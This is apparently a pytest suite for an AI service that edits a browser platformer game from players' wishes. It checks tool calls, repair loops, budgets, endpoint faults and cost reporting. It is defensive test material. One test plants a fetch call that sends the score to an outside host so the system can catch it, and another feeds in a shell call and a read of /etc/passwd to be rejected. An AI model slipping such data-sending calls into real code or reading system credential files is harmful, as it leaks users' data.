"""Conversations with a model, from the message to the version: what it is shown, what its plans may do, their cost."""

from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest

from graph.models import model as edge
from tests.endpoint import Endpoint, Fault, FaultKind, Step, serve
from tests.graph.conftest import Critic, Desk, Json, open_desk

CONFETTI = "when I squash an enemy let it burst into confetti"
SHAKE = "if (CONFIG.effects.enabled) { this.cameras.main.shake(180, 0.012); }"
BURST: Json = {
    "kind": "insert_statement",
    "handle": "Level.squashEnemy",
    "where": "last",
    "code": "this.burst(enemy.x, enemy.y, '#ffffff', 30);",
    "description": "confetti flies when an enemy is squashed",
}


def plan(*edits: Json, **more: Any) -> Step:
    """An answer that is a plan."""
    told: Json = {"outcome": "edit", "strategy": "surgical", "rationale": "Squashed enemies burst into confetti."}
    return Step(calls=(("plan", told | {"edits": list(edits)} | more),), tokens=(1_000, 100, 0))


def say(outcome: str, rationale: str) -> Step:
    """An answer that plans nothing."""
    return Step(calls=(("plan", {"outcome": outcome, "rationale": rationale}),))


class Table:
    """A desk with a game, and the endpoint behind it."""

    def __init__(self, desk: Desk, endpoint: Endpoint, game_id: str) -> None:
        self.desk, self.endpoint, self.game_id = desk, endpoint, game_id

    async def chat(self, message: str, *script: Step | Fault, **more: Any) -> Json:
        """The answer to a message, with everything that the model will say to it."""
        self.endpoint.add(*script)
        answer = await self.desk.chat(message, **more)
        self.endpoint.done()
        return answer

    async def code(self) -> str:
        return (await self.desk.document(self.game_id)).decode()

    def shown(self, number: int = -1) -> str:
        """What the model was told last in its request."""
        return self.endpoint.asked[number]["messages"][-1]["content"]


Lay = Callable[..., Awaitable[Table]]


@pytest.fixture
async def lay(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Lay]:
    """Open a table with a platformer: `await lay(player=..., **settings)`."""
    monkeypatch.setattr(edge, "PAUSE", 0.01)
    async with AsyncExitStack() as stack:

        async def opened(player: Any = None, refuses: tuple[str, ...] = (), **settings: Any) -> Table:
            endpoint = stack.enter_context(serve(refuses=refuses))
            named: Json = {"openai_base_url": endpoint.url, "model": "large", "model_prices": {"large": (10, 1, 40)}}
            desk = await stack.enter_async_context(open_desk(tmp_path / "data", player, **(named | settings)))
            game = await desk.generate()
            return Table(desk, endpoint, game["game_id"])

        yield opened


async def test_what_the_reader_understands_costs_nothing(lay: Lay) -> None:
    table = await lay()
    answer = await table.chat("Make the player red and jump higher")
    assert answer["outcome"] == "applied"
    assert answer["usage"]["model_calls"] == 0


async def test_what_it_does_not_understand_goes_to_the_model(lay: Lay) -> None:
    table = await lay()
    answer = await table.chat(CONFETTI, plan(BURST))
    assert (answer["outcome"], answer["response"]) == ("applied", "Squashed enemies burst into confetti.")
    assert "this.burst(enemy.x, enemy.y, '#ffffff', 30);" in await table.code()
    assert answer["preservation"]["symbols_changed"] == ["Level.squashEnemy"]
    assert (answer["understood"], answer["not_understood"]) == ([CONFETTI], [])


async def test_it_is_shown_what_the_wish_is_about(lay: Lay) -> None:
    table = await lay()
    await table.chat(CONFETTI, plan(BURST))
    shown = table.shown()
    assert len(shown) < 9_000 < len(await table.code())
    for part in ("enemies: color #e74c3c", "Level: burst, squash", "--- Level.squashEnemy, line", f"wish: {CONFETTI}"):
        assert part in shown


@pytest.mark.parametrize("refuses", [(), ("tools",), ("tools", "response_format")])
async def test_it_looks_before_it_plans(lay: Lay, refuses: tuple[str, ...]) -> None:
    table = await lay(refuses=refuses)
    looks = ("read", {"parts": ["Level.burst", "Level.nothing"]}), ("find", {"text": "emitting"})
    script = [Step(calls=(look,)) for look in looks]
    if refuses:
        script = [Step(f'{{"call": "{name}", "{key}": {value!r}}}'.replace("'", '"')) for name, told in looks
                  for key, value in told.items()]  # fmt: skip
        told = plan(BURST).calls[0][1]
        assert isinstance(told, dict)
        await table.chat(CONFETTI, *script, Step(__import__("json").dumps({"call": "plan"} | told)))
    else:
        await table.chat(CONFETTI, *script, plan(BURST))
    said = [turn["content"] for turn in table.endpoint.asked[-1]["messages"] if turn["role"] in ("tool", "user")]
    assert any("burst(x, y, color, count) {" in text and "not_found" in text for text in said)
    assert any("emitting: false" in text for text in said)


async def test_values_are_set_by_name_within_their_range(lay: Lay) -> None:
    table = await lay()
    wrong = {"kind": "set_literal", "handle": "player.speed", "value": 9_000}
    right = {"kind": "set_literal", "handle": "player.speed", "value": "300"}
    answer = await table.chat("give the hero a feeling of wild racing", plan(wrong), plan(right))
    assert "bad_plan: player.speed lies from 80 to 400." in table.shown()
    (change,) = answer["modifications"]["changes"]
    assert (change["entity"], change["property"], change["old"], change["new"]) == ("player", "speed", 220, 300)
    assert answer["usage"]["rung"] == "knob"


async def test_questions_answers_and_refusals_change_nothing(lay: Lay) -> None:
    table = await lay()
    asked = await table.chat("make the sparkling thing dance", say("ask", "The coins or the stars?"))
    answered = await table.chat("why can I not walk through walls?", say("answer", "They guard the coins."))
    refused = await table.chat("connect it to my bank account", say("refuse", "Games have no network here."))
    assert [each["outcome"] for each in (asked, answered, refused)] == ["asked", "answered", "refused"]
    assert [each["response"] for each in (asked, answered, refused)] == [
        "The coins or the stars?", "They guard the coins.", "Games have no network here.",
    ]  # fmt: skip
    assert {each["version_info"]["new_version"] for each in (asked, answered, refused)} == {1}


async def test_an_edit_that_cannot_be_done_is_planned_again(lay: Lay) -> None:
    table = await lay()
    broken = BURST | {"code": "this.burst(enemy.x, ;"}
    answer = await table.chat(CONFETTI, plan(broken), plan(BURST))
    assert answer["outcome"] == "applied"
    assert "This plan could not be done" in table.shown()
    assert "Send a corrected plan." in table.shown()
    assert answer["usage"]["model_calls"] == 2


async def test_a_security_finding_is_mended_on_the_candidate(lay: Lay) -> None:
    table = await lay()
    evil = BURST | {
        "code": "fetch('https://example.org/?' + this.score);\nthis.burst(enemy.x, enemy.y, '#ffffff', 30);"
    }
    mend = {"kind": "search_replace", "handle": "Level.squashEnemy", "replace": "",
            "search": "fetch('https://example.org/?' + this.score);"}  # fmt: skip
    answer = await table.chat(CONFETTI, plan(evil), plan(mend, rationale="The request is gone."))
    assert answer["outcome"] == "applied"
    assert "Now it has this problem" in table.shown()
    assert "fetch(" in table.shown()
    code = await table.code()
    assert "fetch(" not in code
    assert "'#ffffff', 30" in code
    assert answer["response"] == "Squashed enemies burst into confetti."
    assert answer["preservation"]["symbols_changed"] == ["Level.squashEnemy"]


async def test_what_was_played_badly_is_mended(lay: Lay) -> None:
    table = await lay(Critic([b"DULL"]))
    dull, bright = BURST | {"code": "this.dull = 'DULL';"}, {"handle": "Level.squashEnemy"}
    mend = {"kind": "search_replace", "search": "this.dull = 'DULL';", "replace": BURST["code"]} | bright
    answer = await table.chat(CONFETTI, plan(dull), plan(mend))
    assert answer["outcome"] == "applied"
    assert "- line 7, frame 21: It is dull." in table.shown()


RED = b"#e74c3c', // colour of the player"
GREEN: Json = {"kind": "set_literal", "handle": "player.color", "value": "#00ff00"}
MISSED: Json = {"verdict": "not_confirmed", "sentence": "colour of the player: blue → blue", "metric": "color"}


async def test_what_the_reader_planned_and_does_not_play_is_mended_by_the_model(lay: Lay) -> None:
    critic = Critic([RED])
    table = await lay(critic)
    answer = await table.chat("Make the player red", plan(GREEN))
    assert answer["outcome"] == "applied"
    assert "The wish was worked on already" in table.shown()
    assert "It is dull." in table.shown()
    (change,) = answer["modifications"]["changes"]
    assert "#3498db" in change["code_location"]["before"]
    assert "#00ff00" in change["code_location"]["after"]
    assert answer["response"].startswith("Changed player color from blue (#3498db) to")
    assert answer["usage"]["model_calls"] == 1


async def test_the_reader_is_not_asked_again_in_circles(lay: Lay) -> None:
    critic = Critic([RED, b"#00ff00', // colour of the player"])
    table = await lay(critic, repair_attempts=5)
    answer = await table.chat("Make the player red", plan(GREEN))
    assert answer["outcome"] == "failed"
    assert answer["response"].endswith("It ended there: the same problem came back.")
    assert critic.seen == 3  # the version before, the reader's candidate, the model's
    assert answer["attempt"]["version"] == 2
    assert answer["version_info"]["new_version"] == 1


async def test_a_game_that_plays_is_kept_where_the_model_does_no_better(lay: Lay) -> None:
    critic = Critic([b"#00ff00', // colour of the player"], proofs=[MISSED])
    table = await lay(critic)
    answer = await table.chat("Make the player red", plan(GREEN), Fault("401"))
    assert "Played, but not as wished: colour of the player" in table.endpoint.asked[0]["messages"][-1]["content"]
    assert (answer["outcome"], answer["version_info"]["new_version"]) == ("applied", 2)
    assert RED.decode() in await table.code()
    assert "Played, but not confirmed: colour of the player: blue → blue." in answer["response"]


@pytest.mark.parametrize("said", ["ask", "refuse"])
async def test_words_do_not_take_a_game_that_plays_away(lay: Lay, said: str) -> None:
    table = await lay(Critic(proofs=[MISSED]))
    answer = await table.chat("Make the player red", say(said, "It is red already."))
    assert (answer["outcome"], answer["version_info"]["new_version"]) == ("applied", 2)
    assert RED.decode() in await table.code()


async def test_a_question_about_what_does_not_play_changes_nothing(lay: Lay) -> None:
    table = await lay(Critic([RED]))
    answer = await table.chat("Make the player red", say("ask", "Dark red or light red?"))
    assert (answer["outcome"], answer["response"]) == ("asked", "Dark red or light red?")
    assert answer["modifications"]["changes"] == []
    assert answer["version_info"]["new_version"] == 1


async def test_what_the_reader_did_of_the_rest_is_not_repaired_without_end(lay: Lay) -> None:
    critic = Critic([RED])
    table = await lay(critic)
    answer = await table.chat(f"Make the player red. {CONFETTI}", Fault("401"))
    assert answer["outcome"] == "failed"
    assert "It is dull" in answer["response"]
    assert (critic.seen, answer["attempt"]["version"]) == (2, 2)  # the new game, and the reader's candidate


async def test_the_same_problem_twice_ends_it(lay: Lay) -> None:
    table = await lay(Critic([b"DULL"]), repair_attempts=5)
    dull = [BURST | {"code": f"this.dull{n} = 'DULL';"} for n in (1, 2)]
    answer = await table.chat(CONFETTI, plan(dull[0]), plan(dull[1]))
    assert answer["outcome"] == "failed"
    assert answer["response"] == (
        "I tried it and played it, and it did not work: It is dull (line 7, frame 21). So nothing was changed. "
        "It ended there: the same problem came back."
    )
    assert answer["version_info"]["new_version"] == 1
    assert "DULL" not in await table.code()


async def test_no_more_plans_than_the_request_allows(lay: Lay) -> None:
    table = await lay(repair_attempts=5)
    broken = BURST | {"code": "this.burst(enemy.x, ;"}
    answer = await table.chat(CONFETTI, plan(broken), budget={"attempts": 0})
    assert answer["outcome"] == "failed"
    assert "one plan failed, and no more are allowed" in answer["response"]


async def test_tokens_are_a_budget(lay: Lay) -> None:
    table = await lay(model_tokens=2_000)
    answer = await table.chat(CONFETTI, plan(BURST | {"code": "this.burst(enemy.x, ;"}))
    assert answer["outcome"] == "failed"
    assert "the 2000 tokens of this request are used up" in answer["response"]


async def test_a_feature_is_never_lost_to_pass(lay: Lay) -> None:
    table = await lay()
    gone = {"kind": "search_replace", "handle": "Level.hurtPlayer", "search": SHAKE, "replace": BURST["code"]}
    back = {"kind": "insert_statement", "handle": "Level.hurtPlayer", "where": "first", "code": SHAKE}
    answer = await table.chat(CONFETTI, plan(gone), plan(back))
    assert "The feature 'screen_shake' is lost." in table.shown()
    assert answer["outcome"] == "applied"
    assert "this.cameras.main.shake" in await table.code()


async def test_a_feature_that_stays_lost_is_no_version(lay: Lay) -> None:
    table = await lay()
    gone = {"kind": "search_replace", "handle": "Level.hurtPlayer", "search": SHAKE, "replace": BURST["code"]}
    answer = await table.chat(CONFETTI, plan(gone), plan(BURST))
    assert answer["outcome"] == "failed"
    assert answer["response"].endswith(
        "The feature 'screen_shake' is lost. It ended there: the same problem came back."
    )
    assert answer["version_info"]["new_version"] == 1


async def test_what_the_player_wants_gone_may_go(lay: Lay) -> None:
    table = await lay()
    gone = {"kind": "search_replace", "handle": "Level.hurtPlayer", "search": SHAKE, "replace": BURST["code"]}
    answer = await table.chat("without the wobbly camera when I get hurt, confetti instead", plan(gone))
    assert answer["outcome"] == "applied"


FAULTS: list[tuple[FaultKind, str]] = [
    ("429", "used too much"), ("500", "has an error"), ("cut", "broke off"), ("html", "web page"), ("empty", "empty"),
    ("garbage", "cannot be read"), ("no_finish", "broke off"), ("reset", "broke off"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "told"), FAULTS)
async def test_a_fault_that_stays_is_said_and_nothing_changes(lay: Lay, kind: FaultKind, told: str) -> None:
    table = await lay()
    before = await table.code()
    answer = await table.chat(CONFETTI, *[Fault(kind)] * 3)
    assert answer["outcome"] == "failed"
    assert told in answer["response"]
    assert await table.code() == before
    assert answer["usage"]["model_calls"] == 3


@pytest.mark.parametrize(("kind", "told"), [*FAULTS, ("401", "refuses the key")])
async def test_what_the_reader_understood_is_done_without_the_model(lay: Lay, kind: FaultKind, told: str) -> None:
    table = await lay()
    times = 1 if kind == "401" else 3
    answer = await table.chat(f"Make the player red. {CONFETTI}", *[Fault(kind)] * times)
    assert answer["outcome"] == "partly"
    assert told in answer["response"]
    assert [change["new"] for change in answer["modifications"]["changes"]] == ["#e74c3c"]


@pytest.mark.parametrize("kind", ["hang", "drip"])
async def test_the_model_has_its_time_and_no_more(lay: Lay, kind: FaultKind) -> None:
    table = await lay(model_seconds=1.5)
    answer = await table.chat(CONFETTI, Fault(kind))
    assert answer["outcome"] == "failed"
    assert "The model took too long" in answer["response"]


async def test_prose_is_no_change(lay: Lay) -> None:
    table = await lay()
    answer = await table.chat(CONFETTI, Step("Done! There is confetti now."), Step("As I said, done."))
    assert answer["outcome"] == "failed"
    assert "answered in words and changed nothing" in answer["response"]


@pytest.mark.parametrize(
    ("name", "arguments", "told"),
    [
        ("plan", '{"outcome": "edit", "edits": [', "no JSON object"),
        ("plan", {"outcome": "edit", "rationale": "x", "edits": []}, "has no edits"),
        ("plan", {"outcome": "edit", "rationale": "x", "edits": ["now"]}, "An edit is no object"),
        ("plan", {"outcome": "edit", "rationale": "x", "edits": [{"kind": "shell", "handle": "x"}]}, "no such kind"),
        ("plan", {"outcome": "edit", "rationale": "x", "edits": [{"kind": "rename", "handle": "Level"}]}, "needs"),
        ("plan", {"outcome": "edit", "edits": [{"kind": "delete_node", "handle": "Level.fly"}]}, "There is no"),
        ("shell", {"command": "ls"}, "There is no such call"),
        ("read", {"file": "/etc/passwd"}, "called wrongly"),
    ],
)
async def test_a_call_that_makes_no_sense_is_sent_back(lay: Lay, name: str, arguments: Any, told: str) -> None:
    table = await lay()
    answer = await table.chat(CONFETTI, Step(calls=((name, arguments),)), plan(BURST))
    assert answer["outcome"] == "applied"
    assert told in table.shown()


async def test_looking_has_an_end(lay: Lay) -> None:
    table = await lay()
    endless = [Step(calls=(("find", {"text": f"x{n}"}),)) for n in range(8)]
    answer = await table.chat(CONFETTI, *endless)
    assert answer["outcome"] == "failed"
    assert "made no plan" in answer["response"]
    assert [tool["function"]["name"] for tool in table.endpoint.asked[-1]["tools"]] == ["plan"]


async def test_health_is_what_the_last_answer_said(lay: Lay) -> None:
    table = await lay()

    async def told() -> Json:
        return (await table.desk.engine.health())["services"]["openai_api"]

    assert await told() == {"status": "unknown", "response_time": None, "rate_limit_remaining": None}
    await table.chat(CONFETTI, plan(BURST))
    answered = await told()
    assert (answered["status"], answered["rate_limit_remaining"]) == ("healthy", 59)
    assert answered["response_time"] > 0
    await table.chat("let the coins sing opera", Fault("401"))
    assert (await told())["status"] == "unhealthy"
    health = await table.desk.engine.health()
    assert (health["status"], health["not_measured"].get("services.openai_api")) == ("degraded", None)
    assert (await table.desk.engine.readiness())["checks"]["openai_api"] == "degraded"
    assert (await table.desk.engine.readiness())["ready"] is True


async def test_the_bill_is_in_the_answer(lay: Lay) -> None:
    table = await lay()
    usage = (await table.chat(CONFETTI, Step(calls=(("find", {"text": "burst"}),)), plan(BURST)))["usage"]
    assert usage.pop("model_seconds") > 0
    assert usage == {
        "rung": "symbol", "model_calls": 2, "tokens_in": 1_100, "cached_tokens": 0, "tokens_out": 120, "cost": 0.0158,
    }  # fmt: skip


async def test_what_the_endpoint_does_not_say_is_null(lay: Lay) -> None:
    table = await lay(model_prices={})
    priceless = await table.chat(CONFETTI, plan(BURST))
    assert (priceless["usage"]["cost"], priceless["usage"]["tokens_in"]) == (None, 1_000)
    assert priceless["not_measured"]["usage.cost"] == "MODEL_PRICES has no price for the model"
    made = plan({"kind": "set_literal", "handle": "player.speed", "value": 300})
    uncounted = await table.chat("let the hero race", Step(calls=made.calls, tokens=None))
    assert (uncounted["usage"]["tokens_in"], uncounted["usage"]["tokens_out"]) == (None, None)
    assert "did not count" in uncounted["not_measured"]["usage.tokens_in"]
